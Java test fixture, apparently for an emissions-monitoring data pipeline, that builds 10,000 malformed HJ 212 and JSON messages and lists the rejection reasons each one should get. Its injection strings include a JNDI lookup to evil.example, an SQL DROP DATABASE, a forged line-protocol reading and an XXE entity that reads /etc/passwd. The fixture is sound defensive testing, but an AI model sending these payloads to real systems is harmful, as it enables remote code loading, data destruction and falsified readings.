package org.cems.faults;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.cems.hj212.Hj212Encoder;

/**
 * Ten thousand hostile or malformed messages, each with the dead-letter reasons the job must give
 * it (one; two for glued frames, or for a reading whose only item is bad: `bad_value` for the item, `missing_values` for the reading). None of them may yield a reading: those that name a
 * registered MN are broken before a reading could be made, so the good data stays exact.
 */
final class HostileMessages {
    static final int COUNT = 10_000;
    /** Every this many messages one is a multi-megabyte payload. */
    private static final int BIG_EVERY = 1_000;

    private static final String KNOWN_MN = Replay.STACK_MN;
    private static final String DATA_TIME = "20261125013000";

    /** One message: its id (in the MQTT topic; Kafka ones are known by offset), bytes and expected reasons. */
    record Hostile(String id, byte[] payload, boolean overKafka, List<String> reasons) {}

    /** What an attacker puts in every text field: line protocol, InfluxQL, JSON, control characters. */
    private static final String[] INJECTIONS = {
        "x value=1 0\nreading,source=u1-stack value=999 1",
        "a,b=c d=e\\",
        "'; DROP DATABASE cems; --",
        "\"}],\"reason\":\"ok\",\"x\":[{\"",
        "\r\nHTTP/1.1 200 OK\r\n",
        "${jndi:ldap://evil.example/a}",
        "\\\\\\ ,= \t",
        "空格 污染 ☠ \u202e",
    };

    static List<Hostile> all() {
        List<Hostile> out = new ArrayList<>(COUNT);
        for (int i = 0; i < COUNT; i++) {
            out.add(message(i));
        }
        return out;
    }

    static Hostile message(int i) {
        String id = String.format("H%05d", i);
        boolean kafka = i % 2 == 0;
        if (i % BIG_EVERY == BIG_EVERY - 1) {
            return new Hostile(id, big(id, 2 + i / BIG_EVERY % 3), kafka, List.of("payload_too_large"));
        }
        String inj = INJECTIONS[i / 23 % INJECTIONS.length];
        return switch (i % 23) {
            case 0 ->
                hostile(id, kafka, badCrc(frame(upload(id, KNOWN_MN, "a21026-Rtd=25.0,a21026-Flag=N"))), "bad_crc");
            case 1 ->
                hostile(
                        id,
                        kafka,
                        truncated(frame(upload(id, KNOWN_MN, "a21026-Rtd=25.0,a21026-Flag=N"))),
                        "truncated");
            case 2 ->
                hostile(
                        id,
                        kafka,
                        glue(
                                badCrc(frame(upload(id, KNOWN_MN, "a21026-Rtd=25.0"))),
                                truncated(frame(upload(id, KNOWN_MN, "a21002-Rtd=35.0")))),
                        "bad_crc",
                        "truncated");
            case 3 ->
                hostile(
                        id,
                        kafka,
                        glue(
                                frame(upload(id, "UNKNOWN" + id, "a21026-Rtd=25.0")),
                                badCrc(frame(upload(id, KNOWN_MN, "a21002-Rtd=35.0")))),
                        "unknown_mn",
                        "bad_crc");
            case 4 ->
                hostile(
                        id,
                        kafka,
                        ascii("##12a4QN=" + id + ";CN=2011;MN=" + KNOWN_MN + ";CP=&&&&ABCD\r\n"),
                        "bad_length");
            case 5 ->
                hostile(
                        id,
                        kafka,
                        ascii("##9000QN=" + id + ";CN=2011;MN=" + KNOWN_MN + ";CP=&&DataTime=" + DATA_TIME + "&&"),
                        "frame_too_long");
            case 6 ->
                hostile(
                        id,
                        kafka,
                        frame("QN=" + id + ";ST=91;CN=9014;PW=123456;MN=" + KNOWN_MN + ";Flag=4;CP=&&&&"),
                        "not_a_reading");
            case 7 ->
                hostile(
                        id,
                        kafka,
                        frame(upload(id, KNOWN_MN, "a21026-Rtd=abc,a21026-Flag=N")),
                        "bad_value",
                        "missing_values");
            case 8 ->
                hostile(
                        id,
                        kafka,
                        json(id, "\"" + KNOWN_MN + "\"", "\"2026-11-25T01:30:00+08:00\"", "{\"a21026\":{\"rtd\":NaN}}"),
                        "bad_json");
            case 9 ->
                hostile(
                        id,
                        kafka,
                        json(
                                id,
                                "\"" + KNOWN_MN + "\"",
                                "\"2026-11-25T01:30:00+08:00\"",
                                "{\"a21026\":{\"rtd\":\"25.0\"}}"),
                        "bad_value",
                        "missing_values");
            case 10 ->
                hostile(
                        id,
                        kafka,
                        json(
                                id,
                                "\"" + KNOWN_MN + "\"",
                                "\"2026-11-25T01:30:00+08:00\"",
                                "{\"a21026\":{\"rtd\":1e999}}"),
                        "bad_value",
                        "missing_values");
            case 11 ->
                hostile(id, kafka, json(id, "\"" + KNOWN_MN + "\"", "true", "{\"a21026\":{\"rtd\":25.0}}"), "bad_time");
            case 12 ->
                hostile(
                        id,
                        kafka,
                        json(id, "42", "\"2026-11-25T01:30:00+08:00\"", "{\"a21026\":{\"rtd\":25.0}}"),
                        "missing_mn");
            case 13 ->
                hostile(
                        id,
                        kafka,
                        json(
                                id,
                                quote(inj + id),
                                "\"2026-11-25T01:30:00+08:00\"",
                                "{" + quote(inj) + ":{\"rtd\":25.0,\"flag\":\"N\\n\"}}"),
                        "unknown_mn");
            case 14 ->
                hostile(
                        id,
                        kafka,
                        utf8("{\"mn\":\"" + KNOWN_MN + "\",\"cn\":" + quote("2011" + inj)
                                + ",\"time\":\"2026-11-25T01:30:00+08:00\","
                                + "\"values\":{\"a21026\":{\"rtd\":25.0}},\"id\":\"" + id + "\"}"),
                        "unsupported_cn");
            case 15 ->
                hostile(
                        id,
                        kafka,
                        json(
                                id,
                                "\"" + KNOWN_MN + "\"",
                                quote("2026-11-25T01:30:00" + inj),
                                "{\"a21026\":{\"rtd\":25.0}}"),
                        "bad_time");
            case 16 ->
                hostile(
                        id,
                        kafka,
                        json(
                                id,
                                "\"" + KNOWN_MN + "\"",
                                "\"2026-11-25T01:30:00+08:00\"",
                                "{\"a21026\":{\"rtd\":25.0,\"flag\":" + quote(inj) + "}}"),
                        "bad_value",
                        "missing_values");
            case 17 ->
                hostile(
                        id,
                        kafka,
                        glue(
                                ascii("{\"mn\":\"" + KNOWN_MN + "\",\"id\":\"" + id + "\",\"x\":\""),
                                new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE},
                                ascii("\"}")),
                        "not_utf8");
            case 18 ->
                hostile(
                        id,
                        kafka,
                        ascii("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;"
                                + id + "</x>"),
                        "unknown_format");
            case 19 ->
                hostile(id, kafka, frame(upload(id, "EVIL" + id + " \n\"'\\ x", "a21026-Rtd=25.0")), "unknown_mn");
            case 20 ->
                hostile(
                        id,
                        kafka,
                        ascii("{\"mn\":\"" + KNOWN_MN + "\",\"id\":\"" + id + "\",\"time\":\"2026-11-25T01:3"),
                        "bad_json");
            case 21 -> hostile(id, kafka, ascii("[".repeat(5000) + id), "bad_json");
            default -> hostile(id, kafka, i % 4 == 0 ? new byte[0] : ascii(" \r\n\t "), "empty_payload");
        };
    }

    private static Hostile hostile(String id, boolean kafka, byte[] payload, String... reasons) {
        return new Hostile(id, payload, kafka, List.of(reasons));
    }

    private static String upload(String qn, String mn, String items) {
        return "QN=" + qn + ";ST=31;CN=2011;PW=123456;MN=" + mn + ";Flag=4;CP=&&DataTime=" + DATA_TIME + ";" + items
                + "&&";
    }

    private static byte[] frame(String segment) {
        return Hj212Encoder.frame(segment.getBytes(StandardCharsets.UTF_8));
    }

    /** The same frame with one CRC digit changed. */
    private static byte[] badCrc(byte[] frame) {
        byte[] out = frame.clone();
        int digit = out.length - 3; // the last CRC digit, before CRLF
        out[digit] = (byte) (out[digit] == '0' ? '1' : '0');
        return out;
    }

    private static byte[] truncated(byte[] frame) {
        return Arrays.copyOf(frame, frame.length / 2);
    }

    private static byte[] glue(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    private static byte[] json(String id, String mn, String time, String values) {
        return utf8("{\"id\":\"" + id + "\",\"mn\":" + mn + ",\"cn\":\"2011\",\"time\":" + time + ",\"values\":"
                + values + "}");
    }

    /** A JSON string literal holding {@code s} (so the injection reaches the decoder intact). */
    private static String quote(String s) {
        StringBuilder sb = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> sb.append("\\\"");
                case '\\' -> sb.append("\\\\");
                case '\n' -> sb.append("\\n");
                case '\r' -> sb.append("\\r");
                case '\t' -> sb.append("\\t");
                default -> sb.append(c);
            }
        }
        return sb.append('"').toString();
    }

    /** A reading-shaped JSON object padded to {@code megabytes} MB. */
    private static byte[] big(String id, int megabytes) {
        String head = "{\"id\":\"" + id + "\",\"mn\":\"" + KNOWN_MN + "\",\"pad\":\"";
        int pad = megabytes * (1 << 20) - head.length() - 2;
        return ascii(head + "A".repeat(pad) + "\"}");
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
